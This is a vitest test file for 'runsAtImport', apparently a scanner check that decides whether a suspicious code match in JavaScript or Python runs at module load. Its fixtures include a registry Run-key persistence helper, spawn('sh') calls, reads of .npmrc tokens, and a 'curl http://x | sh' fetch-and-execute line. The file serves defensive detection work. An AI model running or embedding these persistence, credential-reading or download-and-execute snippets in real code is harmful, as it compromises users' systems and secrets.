// Whether a match runs when its file is loaded: module-level code, IIFEs and callbacks do; constants and functions used
// only by the package's user do not; what cannot be read counts as running.
import { describe, expect, it } from 'vitest';
import { runsAtImport } from './import-time.js';

/** Whether the code at the first occurrence of `needle` runs on import. */
function js(code: string, needle: string): boolean {
  expect(code).toContain(needle);
  return runsAtImport(code, code.indexOf(needle), 'javascript');
}
function py(code: string, needle: string): boolean {
  expect(code).toContain(needle);
  return runsAtImport(code, code.indexOf(needle), 'python');
}

const AUTOSTART = `'use strict';
const { execFile } = require('child_process');
const KEY = 'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run';
function reg(args) {
  return new Promise((resolve, reject) => execFile('reg', args, (err) => (err ? reject(err) : resolve())));
}
async function enable(name, command) {
  await reg(['add', KEY, '/v', name, '/d', command, '/f']);
}
async function disable(name) {
  await reg(['delete', KEY, '/v', name, '/f']);
}
const isEnabled = async (name) => {
  try { await reg(['query', KEY, '/v', name]); return true; } catch { return false; }
};
`;

describe('runsAtImport (JavaScript)', () => {
  it('does not raise an auto-start helper whose key is used only in functions the user calls', () => {
    const code = `${AUTOSTART}module.exports = { enable, disable, isEnabled };\n`;
    expect(js(code, 'HKCU')).toBe(false);
    expect(js(code, 'const KEY')).toBe(false);
    expect(js(code, "'add'")).toBe(false);
    expect(js(code, "'query'")).toBe(false);
    expect(js(code, "require('child_process')")).toBe(true);
  });

  it('raises it when the module enables itself at load, also behind a platform check', () => {
    expect(js(`${AUTOSTART}enable('x', process.execPath);\n`, 'HKCU')).toBe(true);
    const guarded = `${AUTOSTART}if (process.platform === 'win32') { enable('x', process.execPath); }\nmodule.exports = { enable };\n`;
    expect(js(guarded, 'HKCU')).toBe(true);
    expect(js(guarded, "'add'")).toBe(true);
    expect(js(guarded, "'delete'")).toBe(false);
  });

  it('reads a constant used at module level, and one used through a function passed as a value', () => {
    expect(js("const KEY = 'HKCU\\\\Run' + '\\\\x';\nreg(['add', KEY]);\n", "'\\\\x'")).toBe(true);
    expect(js("const KEY = 'HKCU';\nfunction persist() { reg(KEY); }\nprocess.on('exit', persist);\n", 'HKCU')).toBe(true);
    expect(js("const KEY = 'HKCU';\nfunction persist() { reg(KEY); }\nexports.persist = persist;\n", 'HKCU')).toBe(false);
  });

  it('runs callbacks and immediately invoked functions', () => {
    expect(js("setTimeout(() => { spawn('sh'); }, 10);\n", 'spawn')).toBe(true);
    expect(js("process.nextTick(function () { spawn('sh'); });\n", 'spawn')).toBe(true);
    expect(js("(function () { spawn('sh'); })();\n", 'spawn')).toBe(true);
    expect(js("(() => { spawn('sh'); })();\n", 'spawn')).toBe(true);
    expect(js("!function () { spawn('sh'); }();\n", 'spawn')).toBe(true);
    expect(js("(async function main() { spawn('sh'); }).call(this);\n", 'spawn')).toBe(true);
    expect(js("function run() { spawn('sh'); }\nrun();\n", 'spawn')).toBe(true);
    expect(js("function run() { spawn('sh'); }\nmodule.exports = run;\n", 'spawn')).toBe(false);
    expect(js("exports.token = function () { return readFileSync('.npmrc'); }();\n", 'readFileSync')).toBe(true);
    expect(js("function enable() { spawn('sh'); }\n(async () => { await x(); })();\nmodule.exports = { enable };\n", 'spawn')).toBe(false);
  });

  it('defers methods called only by users, not constructors nor getters', () => {
    const code = "class Agent {\n  constructor() { this.id = hostname(); }\n  get token() { return readFileSync('.npmrc'); }\n  start() { spawn('sh'); }\n}\nmodule.exports = { Agent };\n";
    expect(js(code, 'spawn')).toBe(false);
    expect(js(code, 'hostname')).toBe(true);
    expect(js(code, 'readFileSync')).toBe(true);
    expect(js(`${code}new Agent().start();\n`, 'spawn')).toBe(true);
  });

  it('defers functions that are only exported or listed', () => {
    const code = "function enable() { spawn('a'); }\nfunction disable() { spawn('b'); }\nmodule.exports = { enable, disable: disable };\n";
    expect(js(code, "'a'")).toBe(false);
    expect(js(code, "'b'")).toBe(false);
    expect(js("module.exports = function () { spawn('a'); };\n", 'spawn')).toBe(false);
    expect(js("export default function enable() { spawn('a'); }\nexport { enable };\n", 'spawn')).toBe(false);
    expect(js("exports.enable = function () { spawn('a'); };\n", 'spawn')).toBe(false);
    expect(js("const api = { enable() { spawn('a'); } };\napi.enable();\n", 'spawn')).toBe(true);
  });

  it('follows calls a few levels deep and stops at cycles', () => {
    const chain = "function a() { spawn('x'); }\nfunction b() { a(); }\nfunction c() { b(); }\nc();\n";
    expect(js(chain, 'spawn')).toBe(true);
    expect(js(chain.replace('c();', 'module.exports = c;'), 'spawn')).toBe(false);
    expect(js("function a() { b(); spawn('x'); }\nfunction b() { a(); }\n", 'spawn')).toBe(false);
  });

  it('is not derailed by braces and function words in strings, templates and regular expressions', () => {
    const code = "const s = \"function x() {\";\nconst t = `}${'{'} function y() {`;\nconst r = /[{(]function\\(/g;\nfunction enable() { spawn('a'); }\nmodule.exports = { enable };\nhostname();\n";
    expect(js(code, 'spawn')).toBe(false);
    expect(js(code, 'hostname')).toBe(true);
    expect(js(code, 'const r')).toBe(true);
  });

  it('answers true when it cannot read the file', () => {
    expect(js("function enable() { spawn('a');\nmodule.exports = { enable };\n", 'spawn')).toBe(true);
    expect(js("function enable() { spawn('a'); }}\nmodule.exports = { enable };\n", 'spawn')).toBe(true);
    const minified = `function e(){spawn('a')}module.exports={e};${'var x=1;'.repeat(200)}`;
    expect(js(minified, 'spawn')).toBe(true);
    expect(runsAtImport('x', 5, 'javascript')).toBe(true);
    expect(js(`function enable() { spawn('a'); }\n${'enable;\n'.repeat(300)}`, 'spawn')).toBe(true);
  });

  it('reads a large bundle to its end (brace-like characters in strings and objects do not derail it)', () => {
    const code = `${'function f(a) { return a + 1; }\nconst o = { k: [1, 2, "}"] };\n'.repeat(20_000)}${AUTOSTART}`;
    for (let i = 0; i < 5; i++) expect(runsAtImport(code, code.indexOf('HKCU'), 'javascript')).toBe(false);
  });
});

describe('runsAtImport (Python)', () => {
  const install = 'import os\n\ndef install():\n    os.system("curl http://x | sh")\n';

  it('runs a function called at module level, not one called only as a script or never', () => {
    expect(py(`${install}\ninstall()\n`, 'os.system')).toBe(true);
    expect(py(`${install}\nif __name__ == "__main__":\n    install()\n`, 'os.system')).toBe(false);
    expect(py(install, 'os.system')).toBe(false);
    expect(py(`${install}\ntry:\n    install()\nexcept Exception:\n    pass\n`, 'os.system')).toBe(true);
    expect(py(`${install}\nif __name__ == "__main__":\n    install()\n`, 'install()\n')).toBe(false);
    expect(py(`${install}\nif __name__ == "__main__":\n    install()\nelse:\n    install()\n`, 'os.system')).toBe(true);
  });

  it('runs a thread target, a decorated function and dunder methods', () => {
    expect(py('import threading\n\ndef _run():\n    steal()\n\nthreading.Thread(target=_run).start()\n', 'steal')).toBe(true);
    expect(py('import atexit\n\n@atexit.register\ndef _bye():\n    steal()\n', 'steal')).toBe(true);
    const cls = 'class Agent:\n    def __init__(self):\n        self.h = gethostname()\n\n    def start(self):\n        steal()\n';
    expect(py(cls, 'gethostname')).toBe(true);
    expect(py(cls, 'steal')).toBe(false);
    expect(py(`${cls}\nAgent().start()\n`, 'steal')).toBe(true);
  });

  it('reads a module constant by where it is used', () => {
    const key = 'KEY = r"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"\nPARTS = ("a"\n         "HKLM")\n\ndef enable():\n    reg(KEY, PARTS)\n';
    expect(py(key, 'HKCU')).toBe(false);
    expect(py(key, 'HKLM')).toBe(false);
    expect(py(`${key}reg(KEY)\n`, 'HKCU')).toBe(true);
    expect(py(`${key}\nif __name__ == "__main__":\n    enable()\n`, 'HKCU')).toBe(false);
    expect(py('settings = dict(\nKEY="HKCU"\n)\n', 'HKCU')).toBe(true);
  });

  it('is not confused by brackets and strings over several lines', () => {
    const code = 'def f():\n    x = call(\n"arg",\n  other)\n    steal("""\ndef g():\n""")\n\nf()\n';
    expect(py(code, 'steal')).toBe(true);
    expect(py(code.replace('f()\n', 'pass\n'), 'steal')).toBe(false);
    expect(py('def f(:\n    steal()\n', 'steal')).toBe(true);
  });
});
